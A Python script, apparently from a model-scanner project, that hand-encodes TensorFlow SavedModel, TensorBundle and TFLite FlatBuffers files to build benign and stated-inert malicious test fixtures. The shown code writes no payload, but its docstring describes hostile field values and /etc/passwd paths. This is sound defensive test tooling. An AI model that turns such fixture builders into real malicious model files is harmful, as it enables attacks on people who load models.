#!/usr/bin/python3
"""Writes the graph-format fixtures (TensorFlow SavedModel / GraphDef / TFLite / ONNX) and their manifests.

    /usr/bin/python3 scripts/gen-graph-fixtures.py

Deterministic and re-runnable. Output: fixtures/formats/{tensorflow,tflite,onnx}/{benign,malicious}/ and one
manifest.json per format (see test/formats/manifests.test.ts).

- ONNX benign models are written by the real `onnx` package (onnx.helper) and by torch.onnx.export; malicious
  variants are built with onnx.helper too, with the hostile field values set directly.
- TensorFlow is not installed here: SavedModel, GraphDef, MetaGraphDef, keras_metadata.pb and TensorBundle files are
  written in the protobuf wire format by hand, following the public .proto files (field numbers in comments); the
  benign SavedModel reproduces the layout tf.saved_model.save writes for a small Keras MLP (variables, serving
  signature, the standard saver functions __inference__traced_save_N / __inference__traced_restore_N).
- TFLite models are written as FlatBuffers by hand following tensorflow/lite/schema/schema.fbs.
Every payload is inert (paths such as /etc/passwd are never read by the scanner; commands are `echo`).
"""

import base64
import hashlib
import io
import json
import marshal
import os
import pickle
import shutil
import struct
import sys

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures', 'formats')

# ------------------------------------------------------------------------------------------------ protobuf wire


def varint(n):
    if n < 0:
        n += 1 << 64
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def key(no, wire):
    return varint((no << 3) | wire)


def fv(no, v):
    """varint field"""
    return key(no, 0) + varint(v)


def fb(no, b):
    """length-delimited field"""
    if isinstance(b, str):
        b = b.encode()
    return key(no, 2) + varint(len(b)) + b


def fm(no, *parts):
    """nested message field"""
    return fb(no, b''.join(parts))


def ff32(no, x):
    return key(no, 5) + struct.pack('<f', x)


def packed(values):
    return b''.join(varint(v) for v in values)


# ------------------------------------------------------------------------------------------------ TensorFlow protos
# tensorflow/core/framework: types.proto DataType (DT_FLOAT=1, DT_INT32=3, DT_STRING=7, DT_RESOURCE=20, DT_BOOL=10)
DT_FLOAT, DT_INT32, DT_STRING, DT_BOOL, DT_RESOURCE = 1, 3, 7, 10, 20


def shape(dims):
    """TensorShapeProto { 2: repeated Dim { 1: size } }"""
    return b''.join(fm(2, fv(1, d)) for d in dims)


# AttrValue { 1: list, 2: s, 3: i, 4: f, 5: b, 6: type, 7: shape, 8: tensor, 10: func }
def av_s(s):
    return fb(2, s)


def av_i(i):
    return fv(3, i)


def av_b(b):
    return fv(5, 1 if b else 0)


def av_type(t):
    return fv(6, t)


def av_shape(dims):
    return fm(7, shape(dims))


def av_list_type(types):
    return fm(1, fb(6, packed(types)))


def av_list_s(strings):
    return fm(1, *[fb(2, s) for s in strings])


def av_list_shape(shapes):
    return fm(1, *[fm(7, shape(s)) for s in shapes])


def av_func(name):
    return fm(10, fb(1, name))


def tensor_string(values, dims=()):
    """TensorProto { 1: dtype, 2: tensor_shape, 8: string_val }"""
    return fm(8, fv(1, DT_STRING), fm(2, shape(dims)), *[fb(8, v) for v in values])


def tensor_float(arr):
    arr = np.asarray(arr, dtype='<f4')
    return fm(8, fv(1, DT_FLOAT), fm(2, shape(arr.shape)), fb(4, arr.tobytes()))


def tensor_int(values, dims=()):
    return fm(8, fv(1, DT_INT32), fm(2, shape(dims)), fb(7, packed(values)))


def node(name, op, inputs=(), attrs=None, device=''):
    """NodeDef { 1: name, 2: op, 3: input, 4: device, 5: map<string, AttrValue> attr }"""
    out = fb(1, name) + fb(2, op)
    for i in inputs:
        out += fb(3, i)
    if device:
        out += fb(4, device)
    for k in sorted(attrs or {}):
        out += fm(5, fb(1, k), fb(2, attrs[k]))
    return out


def const_str(name, value):
    return node(name, 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string([value])})


def op_def(name, inputs=(), outputs=(), stateful=False):
    """OpDef { 1: name, 2: input_arg ArgDef { 1: name, 3: type }, 3: output_arg, 17: is_stateful }"""
    out = fb(1, name)
    for n, t in inputs:
        out += fm(2, fb(1, n), fv(3, t))
    for n, t in outputs:
        out += fm(3, fb(1, n), fv(3, t))
    if stateful:
        out += fv(17, 1)
    return out


def function(name, inputs, outputs, nodes, ret, stateful=True):
    """FunctionDef { 1: OpDef signature, 3: node_def, 4: map<string,string> ret }"""
    out = fm(1, op_def(name, inputs, outputs, stateful))
    for n in nodes:
        out += fm(3, n)
    for k in sorted(ret):
        out += fm(4, fb(1, k), fb(2, ret[k]))
    return out


def graph_def(nodes, functions=(), producer=1645):
    """GraphDef { 1: node, 2: FunctionDefLibrary { 1: function }, 4: VersionDef { 1: producer, 2: min_consumer } }"""
    out = b''.join(fm(1, n) for n in nodes)
    if functions:
        out += fm(2, *[fm(1, f) for f in functions])
    out += fm(4, fv(1, producer), fv(2, 12))
    return out


def tensor_info(name, dtype, dims):
    """TensorInfo { 1: name, 2: dtype, 3: tensor_shape }"""
    return fb(1, name) + fv(2, dtype) + fm(3, shape(dims))


def signature(inputs, outputs, method='tensorflow/serving/predict'):
    """SignatureDef { 1: map inputs, 2: map outputs, 3: method_name }"""
    out = b''
    for k, v in inputs:
        out += fm(1, fb(1, k), fb(2, v))
    for k, v in outputs:
        out += fm(2, fb(1, k), fb(2, v))
    if method:
        out += fb(3, method)
    return out


def meta_graph(graph, ops, saver=None, signatures=(), assets=(), object_graph=None, tags=('serve',)):
    """MetaGraphDef { 1: MetaInfoDef { 2: OpList, 4: tags, 5: tensorflow_version, 6: git version, 7: stripped },
    2: GraphDef, 3: SaverDef, 5: map<string, SignatureDef>, 6: AssetFileDef { 1: TensorInfo, 2: filename },
    7: SavedObjectGraph }"""
    info = fm(2, *[fm(1, op_def(o)) for o in sorted(set(ops))])
    for t in tags:
        info += fb(4, t)
    info += fb(5, '2.15.0') + fb(6, 'v2.15.0-2-g0b15fdfcb3f') + fv(7, 1)
    out = fm(1, info) + fm(2, graph)
    if saver:
        out += fm(3, saver)
    for k, v in signatures:
        out += fm(5, fb(1, k), fb(2, v))
    for tensor, filename in assets:
        out += fm(6, fm(1, tensor_info(tensor, DT_STRING, [])), fb(2, filename))
    if object_graph is not None:
        out += fm(7, object_graph)
    return out


def saved_model(*metas):
    """SavedModel { 1: saved_model_schema_version, 2: meta_graphs }"""
    return fv(1, 1) + b''.join(fm(2, m) for m in metas)


def saver_def_v2():
    """SaverDef { 1: filename_tensor_name, 2: save_tensor_name, 3: restore_op_name, 4: max_to_keep, 5: sharded,
    6: keep_checkpoint_every_n_hours, 7: version (V2 = 2) }"""
    return (
        fb(1, 'saver_filename:0')
        + fb(2, 'StatefulPartitionedCall_1:0')
        + fb(3, 'StatefulPartitionedCall_2')
        + fv(4, 5)
        + fv(5, 1)
        + ff32(6, 10000.0)
        + fv(7, 2)
    )


VAR_NAMES = ['dense/kernel', 'dense/bias', 'dense_1/kernel', 'dense_1/bias']
VAR_SHAPES = [[4, 8], [8], [8, 3], [3]]
CKPT_KEYS = [
    'layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE',
    'layer_with_weights-0/bias/.ATTRIBUTES/VARIABLE_VALUE',
    'layer_with_weights-1/kernel/.ATTRIBUTES/VARIABLE_VALUE',
    'layer_with_weights-1/bias/.ATTRIBUTES/VARIABLE_VALUE',
    '_CHECKPOINTABLE_OBJECT_GRAPH',
]


def call(name, inputs, fn, tin, tout, stateful=True):
    op = 'StatefulPartitionedCall' if stateful else 'PartitionedCall'
    return node(
        name,
        op,
        inputs,
        {
            'Tin': av_list_type(tin),
            'Tout': av_list_type(tout),
            '_collective_manager_ids': av_list_s([]),
            '_read_only_resource_inputs': fm(1, fb(3, packed([1, 2, 3, 4]))),
            'config_proto': av_s(b'\n\x07\n\x03CPU\x10\x01\n\x07\n\x03GPU\x10\x002\x02J\x008\x01\x82\x01\x00'),
            'f': av_func(fn),
        },
    )


def traced_save(n):
    """The saver function tf.saved_model.save writes (prefix handling, sharded SaveV2, MergeV2Checkpoints)."""
    nodes = [
        const_str('StaticRegexFullMatch/pattern', '^s3://.*'),
        node('StaticRegexFullMatch', 'StaticRegexFullMatch', ['file_prefix'], {'pattern': av_s('^s3://.*')}),
        const_str('Const', '.part'),
        const_str('Const_1', '_temp/part'),
        node('Select', 'Select', ['StaticRegexFullMatch:output:0', 'Const:output:0', 'Const_1:output:0'], {'T': av_type(DT_STRING)}),
        node('StringJoin', 'StringJoin', ['file_prefix', 'Select:output:0'], {'N': av_i(2)}),
        node('num_shards', 'Const', attrs={'dtype': av_type(DT_INT32), 'value': tensor_int([1])}),
        node('ShardedFilename/shard', 'Const', attrs={'dtype': av_type(DT_INT32), 'value': tensor_int([0])}),
        node('ShardedFilename', 'ShardedFilename', ['StringJoin:output:0', 'ShardedFilename/shard:output:0', 'num_shards:output:0']),
        node('SaveV2/tensor_names', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string(CKPT_KEYS, [5])}),
        node('SaveV2/shape_and_slices', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string([''] * 5, [5])}),
        node(
            'SaveV2',
            'SaveV2',
            ['ShardedFilename:filename:0', 'SaveV2/tensor_names:output:0', 'SaveV2/shape_and_slices:output:0']
            + [f'savev2_{v.replace("/", "_")}_read_readvariableop' for v in VAR_NAMES]
            + ['savev2_const'],
            {'dtypes': av_list_type([DT_FLOAT] * 4 + [DT_STRING])},
        ),
        node('MergeV2Checkpoints/checkpoint_files', 'Pack', ['ShardedFilename:filename:0', '^SaveV2'], {'N': av_i(1), 'T': av_type(DT_STRING)}),
        node('MergeV2Checkpoints', 'MergeV2Checkpoints', ['MergeV2Checkpoints/checkpoint_files:output:0', 'file_prefix']),
        node('Identity', 'Identity', ['file_prefix', '^MergeV2Checkpoints'], {'T': av_type(DT_STRING)}),
        node('Identity_1', 'Identity', ['Identity:output:0', '^NoOp'], {'T': av_type(DT_STRING)}),
        node('NoOp', 'NoOp', ['^MergeV2Checkpoints']),
    ]
    inputs = [('file_prefix', DT_STRING)] + [(f'savev2_{v.replace("/", "_")}_read_readvariableop', DT_FLOAT) for v in VAR_NAMES] + [('savev2_const', DT_STRING)]
    return function(f'__inference__traced_save_{n}', inputs, [('identity_1', DT_STRING)], nodes, {'identity_1': 'Identity_1:output:0'})


def traced_restore(n):
    nodes = [
        node('RestoreV2/tensor_names', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string(CKPT_KEYS[:4], [4])}),
        node('RestoreV2/shape_and_slices', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string([''] * 4, [4])}),
        node(
            'RestoreV2',
            'RestoreV2',
            ['file_prefix', 'RestoreV2/tensor_names:output:0', 'RestoreV2/shape_and_slices:output:0'],
            {'dtypes': av_list_type([DT_FLOAT] * 4)},
        ),
    ]
    for i, v in enumerate(VAR_NAMES):
        nodes.append(node(f'Identity_{i}', 'Identity', [f'RestoreV2:tensors:{i}'], {'T': av_type(DT_FLOAT)}))
        nodes.append(node(f'AssignVariableOp_{i}', 'AssignVariableOp', [f'assignvariableop_{i}_resource', f'Identity_{i}:output:0'], {'dtype': av_type(DT_FLOAT)}))
    nodes.append(node('NoOp', 'NoOp', ['^AssignVariableOp_0', '^AssignVariableOp_1', '^AssignVariableOp_2', '^AssignVariableOp_3']))
    nodes.append(node('Identity_4', 'Identity', ['file_prefix', '^NoOp'], {'T': av_type(DT_STRING)}))
    inputs = [('file_prefix', DT_STRING)] + [(f'assignvariableop_{i}_resource', DT_RESOURCE) for i in range(4)]
    return function(f'__inference__traced_restore_{n}', inputs, [('identity_4', DT_STRING)], nodes, {'identity_4': 'Identity_4:output:0'})


def call_fn(n, extra_nodes=()):
    """The model's __call__: dense → relu → dense → softmax, reading resource variables."""
    nodes = [
        node('sequential/dense/MatMul/ReadVariableOp', 'ReadVariableOp', ['dense_matmul_readvariableop_resource'], {'dtype': av_type(DT_FLOAT)}),
        node('sequential/dense/MatMul', 'MatMul', ['inputs', 'sequential/dense/MatMul/ReadVariableOp:value:0'], {'T': av_type(DT_FLOAT)}),
        node('sequential/dense/BiasAdd/ReadVariableOp', 'ReadVariableOp', ['dense_biasadd_readvariableop_resource'], {'dtype': av_type(DT_FLOAT)}),
        node('sequential/dense/BiasAdd', 'BiasAdd', ['sequential/dense/MatMul:product:0', 'sequential/dense/BiasAdd/ReadVariableOp:value:0'], {'T': av_type(DT_FLOAT)}),
        node('sequential/dense/Relu', 'Relu', ['sequential/dense/BiasAdd:output:0'], {'T': av_type(DT_FLOAT)}),
        node('sequential/dense_1/MatMul/ReadVariableOp', 'ReadVariableOp', ['dense_1_matmul_readvariableop_resource'], {'dtype': av_type(DT_FLOAT)}),
        node('sequential/dense_1/MatMul', 'MatMul', ['sequential/dense/Relu:activations:0', 'sequential/dense_1/MatMul/ReadVariableOp:value:0'], {'T': av_type(DT_FLOAT)}),
        node('sequential/dense_1/BiasAdd/ReadVariableOp', 'ReadVariableOp', ['dense_1_biasadd_readvariableop_resource'], {'dtype': av_type(DT_FLOAT)}),
        node('sequential/dense_1/BiasAdd', 'BiasAdd', ['sequential/dense_1/MatMul:product:0', 'sequential/dense_1/BiasAdd/ReadVariableOp:value:0'], {'T': av_type(DT_FLOAT)}),
        node('sequential/dense_1/Softmax', 'Softmax', ['sequential/dense_1/BiasAdd:output:0'], {'T': av_type(DT_FLOAT)}),
        node('Identity', 'Identity', ['sequential/dense_1/Softmax:softmax:0', '^NoOp'], {'T': av_type(DT_FLOAT)}),
        node('NoOp', 'NoOp', ['^sequential/dense/BiasAdd/ReadVariableOp', '^sequential/dense/MatMul/ReadVariableOp', '^sequential/dense_1/BiasAdd/ReadVariableOp', '^sequential/dense_1/MatMul/ReadVariableOp']),
    ] + list(extra_nodes)
    inputs = [('inputs', DT_FLOAT)] + [(f'{r}_resource', DT_RESOURCE) for r in ['dense_matmul_readvariableop', 'dense_biasadd_readvariableop', 'dense_1_matmul_readvariableop', 'dense_1_biasadd_readvariableop']]
    return function(f'__inference___call___{n}', inputs, [('identity', DT_FLOAT)], nodes, {'identity': 'Identity:output:0'})


def signature_wrapper(n, target):
    nodes = [
        call('StatefulPartitionedCall', ['input_1', 'unknown', 'unknown_0', 'unknown_1', 'unknown_2'], target, [DT_FLOAT] + [DT_RESOURCE] * 4, [DT_FLOAT]),
        node('Identity', 'Identity', ['StatefulPartitionedCall:output:0', '^NoOp'], {'T': av_type(DT_FLOAT)}),
        node('NoOp', 'NoOp', ['^StatefulPartitionedCall']),
    ]
    inputs = [('input_1', DT_FLOAT), ('unknown', DT_RESOURCE), ('unknown_0', DT_RESOURCE), ('unknown_1', DT_RESOURCE), ('unknown_2', DT_RESOURCE)]
    return function(f'__inference_signature_wrapper_{n}', inputs, [('identity', DT_FLOAT)], nodes, {'identity': 'Identity:output:0'})


def main_graph_nodes(extra=()):
    nodes = []
    for v, s in zip(VAR_NAMES, VAR_SHAPES):
        nodes.append(node(v, 'VarHandleOp', attrs={'_output_shapes': av_list_shape([[]]), 'allowed_devices': av_list_s([]), 'container': av_s(''), 'dtype': av_type(DT_FLOAT), 'shape': av_shape(s), 'shared_name': av_s(v)}))
        nodes.append(node(f'{v}/Read/ReadVariableOp', 'ReadVariableOp', [v], {'dtype': av_type(DT_FLOAT)}))
    nodes.append(node('NoOp', 'NoOp'))
    nodes.append(node('Const', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string(['\n\x0c\n\x08\x08\x01\x12\x04root'])}))
    nodes.append(node('serving_default_input_1', 'Placeholder', attrs={'dtype': av_type(DT_FLOAT), 'shape': av_shape([-1, 4])}))
    nodes.append(call('StatefulPartitionedCall', ['serving_default_input_1'] + VAR_NAMES, '__inference_signature_wrapper_1024', [DT_FLOAT] + [DT_RESOURCE] * 4, [DT_FLOAT]))
    nodes.append(node('saver_filename', 'Placeholder', attrs={'dtype': av_type(DT_STRING), 'shape': av_shape([])}))
    nodes.append(call('StatefulPartitionedCall_1', ['saver_filename'] + [f'{v}/Read/ReadVariableOp' for v in VAR_NAMES] + ['Const'], '__inference__traced_save_1100', [DT_STRING] + [DT_FLOAT] * 4 + [DT_STRING], [DT_STRING]))
    nodes.append(call('StatefulPartitionedCall_2', ['saver_filename'] + VAR_NAMES, '__inference__traced_restore_1130', [DT_STRING] + [DT_RESOURCE] * 4, [DT_STRING]))
    return nodes + list(extra)


STD_OPS = [
    'AssignVariableOp', 'BiasAdd', 'Const', 'Identity', 'MatMul', 'MergeV2Checkpoints', 'NoOp', 'Pack', 'Placeholder',
    'ReadVariableOp', 'Relu', 'RestoreV2', 'SaveV2', 'Select', 'ShardedFilename', 'Softmax', 'StatefulPartitionedCall',
    'StaticRegexFullMatch', 'StringJoin', 'VarHandleOp',
]

KERAS_SEQ_CONFIG = {
    'name': 'sequential',
    'layers': [
        {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 4], 'dtype': 'float32', 'sparse': False, 'ragged': False, 'name': 'input_1'}},
        {'class_name': 'Dense', 'config': {'name': 'dense', 'trainable': True, 'dtype': 'float32', 'units': 8, 'activation': 'relu', 'use_bias': True, 'kernel_initializer': {'class_name': 'GlorotUniform', 'config': {'seed': None}}, 'bias_initializer': {'class_name': 'Zeros', 'config': {}}, 'kernel_regularizer': None, 'bias_regularizer': None, 'activity_regularizer': None, 'kernel_constraint': None, 'bias_constraint': None}},
        {'class_name': 'Dense', 'config': {'name': 'dense_1', 'trainable': True, 'dtype': 'float32', 'units': 3, 'activation': 'softmax', 'use_bias': True, 'kernel_initializer': {'class_name': 'GlorotUniform', 'config': {'seed': None}}, 'bias_initializer': {'class_name': 'Zeros', 'config': {}}, 'kernel_regularizer': None, 'bias_regularizer': None, 'activity_regularizer': None, 'kernel_constraint': None, 'bias_constraint': None}},
    ],
}


def keras_root_metadata(config):
    return json.dumps(
        {
            'name': 'sequential',
            'trainable': True,
            'expects_training_arg': True,
            'dtype': 'float32',
            'batch_input_shape': None,
            'must_restore_from_config': False,
            'preserve_input_structure_in_config': False,
            'autocast': False,
            'class_name': 'Sequential',
            'config': config,
            'shared_object_id': 5,
            'input_spec': [{'class_name': 'InputSpec', 'config': {'dtype': None, 'shape': None, 'ndim': None, 'max_ndim': None, 'min_ndim': 2, 'axes': {'-1': 4}}}],
            'build_input_shape': {'class_name': 'TensorShape', 'items': [None, 4]},
            'is_graph_network': True,
            'full_save_spec': {'class_name': '__tuple__', 'items': [[{'class_name': 'TypeSpec', 'type_spec': 'tf.TensorSpec', 'serialized': [{'class_name': 'TensorShape', 'items': [None, 4]}, 'float32', 'input_1']}], {}]},
            'save_spec': {'class_name': 'TypeSpec', 'type_spec': 'tf.TensorSpec', 'serialized': [{'class_name': 'TensorShape', 'items': [None, 4]}, 'float32', 'input_1']},
            'keras_version': '2.15.0',
            'backend': 'tensorflow',
            'model_config': {'class_name': 'Sequential', 'config': config},
        },
        separators=(', ', ': '),
    )


def keras_layer_metadata(layer, idx):
    meta = {'name': layer['config']['name'], 'trainable': True, 'expects_training_arg': False, 'dtype': 'float32', 'batch_input_shape': None, 'stateful': False, 'must_restore_from_config': False, 'preserve_input_structure_in_config': False, 'autocast': True, 'class_name': layer['class_name'], 'config': layer['config'], 'shared_object_id': idx}
    return json.dumps(meta, separators=(', ', ': '))


def saved_object(node_path, identifier, metadata, node_id=0):
    """keras SavedObject { 1: VersionDef version { 1: producer, 2: min_consumer }, 2: node_id, 3: node_path,
    4: identifier, 5: metadata }"""
    out = fm(1, fv(1, 2), fv(2, 1))
    if node_id:
        out += fv(2, node_id)
    return out + fb(3, node_path) + fb(4, identifier) + fb(5, metadata)


def keras_metadata(config):
    """SavedMetadata { 1: repeated SavedObject nodes }"""
    out = fm(1, saved_object('root', '_tf_keras_sequential', keras_root_metadata(config)))
    for i, layer in enumerate(config['layers'][1:]):
        out += fm(1, saved_object(f'root.layer-{i + 1}', '_tf_keras_layer', keras_layer_metadata(layer, i + 1), i + 1))
    return out


def object_graph(keras_meta=None):
    """SavedObjectGraph { 1: SavedObject { 1: children ObjectReference { 1: node_id, 2: local_name },
    4: SavedUserObject { 1: identifier, 2: version, 3: metadata }, 7: SavedVariable { 1: dtype, 2: shape, 6: name } } }"""
    root_user = fb(1, '_tf_keras_sequential') + fm(2, fv(1, 1), fv(2, 1))
    if keras_meta:
        root_user += fb(3, keras_meta)
    nodes = [fm(1, fv(1, 1), fb(2, 'variables')) + fm(4, root_user)]
    for v, s in zip(VAR_NAMES, VAR_SHAPES):
        nodes.append(fm(7, fv(1, DT_FLOAT), fm(2, shape(s)), fv(3, 1), fb(6, v)))
    return b''.join(fm(1, n) for n in nodes)


def tf2_saved_model(extra_main=(), extra_call=(), extra_functions=(), extra_ops=(), assets=(), keras_meta=None):
    funcs = [
        signature_wrapper(1024, '__inference___call___900'),
        call_fn(900, extra_call),
        traced_save(1100),
        traced_restore(1130),
    ] + list(extra_functions)
    g = graph_def(main_graph_nodes(extra_main), funcs)
    sig = signature([('input_1', tensor_info('serving_default_input_1:0', DT_FLOAT, [-1, 4]))], [('dense_1', tensor_info('StatefulPartitionedCall:0', DT_FLOAT, [-1, 3]))])
    init = signature([], [('__saved_model_init_op', fb(1, 'NoOp'))], method='')
    mg = meta_graph(g, STD_OPS + list(extra_ops), saver_def_v2(), [('__saved_model_init_op', init), ('serving_default', sig)], assets, object_graph(keras_meta))
    return saved_model(mg)


# ---- TensorBundle (variables.index is a LevelDB-format table; variables.data-* holds raw tensor bytes)

def _crc32c_table():
    t = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0x82F63B78 if c & 1 else c >> 1
        t.append(c)
    return t


CRC_TABLE = _crc32c_table()


def crc32c(data):
    c = 0xFFFFFFFF
    for b in data:
        c = CRC_TABLE[(c ^ b) & 0xFF] ^ (c >> 8)
    return c ^ 0xFFFFFFFF


def masked_crc(data):
    c = crc32c(data)
    return ((((c >> 15) | (c << 17)) & 0xFFFFFFFF) + 0xA282EAD8) & 0xFFFFFFFF


def block(entries):
    """A table block: prefix-less entries (shared=0), one restart point, then the 5-byte trailer."""
    out = bytearray()
    restarts = []
    for k, v in entries:
        restarts.append(len(out))
        out += varint(0) + varint(len(k)) + varint(len(v)) + k + v
    if not restarts:
        restarts = [0]
    for r in restarts[:1]:
        out += struct.pack('<I', r)
    out += struct.pack('<I', 1)
    trailer_type = b'\x00'
    crc = masked_crc(bytes(out) + trailer_type)
    return bytes(out), trailer_type + struct.pack('<I', crc)


def tensor_bundle(tensors):
    """Returns (variables.index, variables.data-00000-of-00001) for {key: float32 array}."""
    data = bytearray()
    entries = [(b'', fv(1, 1) + fm(3, fv(1, 1)))]  # BundleHeaderProto { 1: num_shards, 3: VersionDef { 1: producer } }
    for k in sorted(tensors):
        arr = np.asarray(tensors[k], dtype='<f4')
        raw = arr.tobytes()
        # BundleEntryProto { 1: dtype, 2: shape, 3: shard_id, 4: offset, 5: size, 6: crc32c (fixed32) }
        entry = fv(1, DT_FLOAT) + fm(2, shape(arr.shape)) + fv(4, len(data)) + fv(5, len(raw)) + key(6, 5) + struct.pack('<I', masked_crc(raw))
        entries.append((k.encode(), entry))
        data += raw
    out = bytearray()
    body, trailer = block(entries)
    data_handle = varint(0) + varint(len(body))
    out += body + trailer
    meta_body, meta_trailer = block([])
    meta_handle = varint(len(out)) + varint(len(meta_body))
    out += meta_body + meta_trailer
    index_body, index_trailer = block([(entries[-1][0] + b'\x00', data_handle)])
    index_handle = varint(len(out)) + varint(len(index_body))
    out += index_body + index_trailer
    footer = meta_handle + index_handle
    footer += b'\x00' * (40 - len(footer))
    out += footer + struct.pack('<Q', 0xDB4775248B80FB57)
    return bytes(out), bytes(data)


def fingerprint():
    """FingerprintDef { 1: saved_model_checksum, 2: graph_def_program_hash, 3: signature_def_hash,
    4: saved_object_graph_hash, 5: checkpoint_hash, 6: VersionDef version }"""
    return fv(1, 0x2F6D7C1A99E42B07) + fv(2, 0x77C1D0EE0A3B5F12) + fv(3, 0x1B2C3D4E5F607182) + fv(4, 0x6A5B4C3D2E1F0A9B) + fv(5, 0x0F1E2D3C4B5A6978) + fm(6, fv(1, 1))


# ------------------------------------------------------------------------------------------------ FlatBuffers (TFLite)


class FB:
    """A small forward-writing FlatBuffers builder: a parent is written before its children, so every uoffset
    points forward as the format requires. Objects: ('table', [field...]), ('vec_ref', [obj...]),
    ('vec_u8', bytes), ('vec_i32', [int...]), ('str', text). Table fields: None or (kind, value) with kind in
    u8 i8 i32 u32 u64 ref."""

    SIZES = {'u8': 1, 'i8': 1, 'i32': 4, 'u32': 4, 'u64': 8, 'ref': 4}
    FMT = {'u8': '<B', 'i8': '<b', 'i32': '<i', 'u32': '<I', 'u64': '<Q'}

    def __init__(self, ident=b'TFL3'):
        self.buf = bytearray(8)
        self.buf[4:8] = ident

    def align(self, n, extra=0):
        while (len(self.buf) + extra) % n:
            self.buf.append(0)

    def put(self, obj):
        kind = obj[0]
        if kind == 'table':
            return self.table(obj[1])
        if kind == 'str':
            b = obj[1].encode() if isinstance(obj[1], str) else obj[1]
            self.align(4)
            pos = len(self.buf)
            self.buf += struct.pack('<I', len(b)) + b + b'\x00'
            return pos
        if kind == 'vec_u8':
            self.align(16, 4)
            pos = len(self.buf)
            self.buf += struct.pack('<I', len(obj[1])) + obj[1]
            return pos
        if kind == 'vec_i32':
            self.align(4)
            pos = len(self.buf)
            self.buf += struct.pack('<I', len(obj[1])) + b''.join(struct.pack('<i', v) for v in obj[1])
            return pos
        if kind == 'vec_ref':
            self.align(4)
            pos = len(self.buf)
            self.buf += struct.pack('<I', len(obj[1])) + b'\x00' * (4 * len(obj[1]))
            for i, child in enumerate(obj[1]):
                at = pos + 4 + 4 * i
                target = self.put(child)
                self.buf[at : at + 4] = struct.pack('<I', target - at)
            return pos
        raise ValueError(kind)

    def table(self, fields):
        layout = []
        off = 4
        for i, f in enumerate(fields):
            if f is None:
                layout.append(0)
                continue
            size = self.SIZES[f[0]]
            while off % size:
                off += 1
            layout.append(off)
            off += size
        table_size = off
        while table_size % 4:
            table_size += 1
        self.align(2)
        vt = len(self.buf)
        self.buf += struct.pack('<HH', 4 + 2 * len(fields), table_size) + b''.join(struct.pack('<H', o) for o in layout)
        self.align(8)
        pos = len(self.buf)
        self.buf += struct.pack('<i', pos - vt) + b'\x00' * (table_size - 4)
        refs = []
        for f, o in zip(fields, layout):
            if f is None:
                continue
            if f[0] == 'ref':
                refs.append((pos + o, f[1]))
            else:
                self.buf[pos + o : pos + o + self.SIZES[f[0]]] = struct.pack(self.FMT[f[0]], f[1])
        for at, child in refs:
            target = self.put(child)
            self.buf[at : at + 4] = struct.pack('<I', target - at)
        return pos

    def finish(self, root):
        pos = self.put(root)
        self.buf[0:4] = struct.pack('<I', pos)
        return bytes(self.buf)


def fb_table(*fields):
    return ('table', list(fields))


def fb_ref(obj):
    return ('ref', obj)


FULLY_CONNECTED, RELU, SOFTMAX, CUSTOM = 9, 19, 25, 32


def opcode(builtin, custom=None):
    """OperatorCode { 0: deprecated_builtin_code, 1: custom_code, 2: version, 3: builtin_code }"""
    return fb_table(('i8', min(builtin, 127)), fb_ref(('str', custom)) if custom else None, ('i32', 1), ('i32', builtin))


def flex_options(op_name, node_def_bytes):
    """FlexBuffer root vector [op name, serialized NodeDef] (the custom options of a Flex op)."""
    w = 2
    buf = bytearray()

    def string(b):
        while len(buf) % w:
            buf.append(0)
        buf.extend(struct.pack('<H', len(b)))
        pos = len(buf)
        buf.extend(b + b'\x00')
        return pos

    s1 = string(op_name.encode())
    s2 = string(node_def_bytes)
    while len(buf) % w:
        buf.append(0)
    buf.extend(struct.pack('<H', 2))
    vec = len(buf)
    buf.extend(struct.pack('<H', vec - s1))
    buf.extend(struct.pack('<H', vec + w - s2))
    buf.extend(bytes([(5 << 2) | 1, (5 << 2) | 1]))  # FBT_STRING, 16-bit
    while len(buf) % w:
        buf.append(0)
    root = len(buf)
    buf.extend(struct.pack('<H', root - vec))
    buf.extend(bytes([(10 << 2) | 1, w]))  # FBT_VECTOR, 16-bit; root byte width
    return bytes(buf)


def tflite_model(opcodes, operators, metadata=(), extra_buffers=()):
    """Model { 0 version, 1 operator_codes, 2 subgraphs, 3 description, 4 buffers, 6 metadata } with one subgraph
    x[1,4] → FC(8) → ... operators given as (opcode_index, inputs, outputs, custom_options or None)."""
    rng = np.random.RandomState(7)
    w1 = rng.standard_normal((8, 4)).astype('<f4').tobytes()
    b1 = np.zeros(8, '<f4').tobytes()
    buffers = [b'', w1, b1] + list(extra_buffers)
    tensors = [
        ('x', [1, 4], 0),
        ('y', [1, 8], 0),
        ('w', [8, 4], 1),
        ('b', [8], 2),
        ('relu', [1, 8], 0),
        ('out', [1, 8], 0),
    ]
    t_objs = [fb_table(fb_ref(('vec_i32', s)), ('u8', 0), ('u32', buf), fb_ref(('str', n))) for n, s, buf in tensors]
    ops = []
    for idx, ins, outs, custom in operators:
        fields = [('u32', idx), fb_ref(('vec_i32', ins)), fb_ref(('vec_i32', outs)), None, None, fb_ref(('vec_u8', custom)) if custom is not None else None]
        ops.append(fb_table(*fields))
    subgraph = fb_table(fb_ref(('vec_ref', t_objs)), fb_ref(('vec_i32', [0])), fb_ref(('vec_i32', [5])), fb_ref(('vec_ref', ops)), fb_ref(('str', 'main')))
    buf_objs = [fb_table(fb_ref(('vec_u8', b))) if b else fb_table() for b in buffers]
    meta_objs = [fb_table(fb_ref(('str', name)), ('u32', index)) for name, index in metadata]
    model = fb_table(
        ('u32', 3),
        fb_ref(('vec_ref', opcodes)),
        fb_ref(('vec_ref', [subgraph])),
        fb_ref(('str', 'MLIR Converted.')),
        fb_ref(('vec_ref', buf_objs)),
        None,
        fb_ref(('vec_ref', meta_objs)) if meta_objs else None,
    )
    return FB().finish(model)


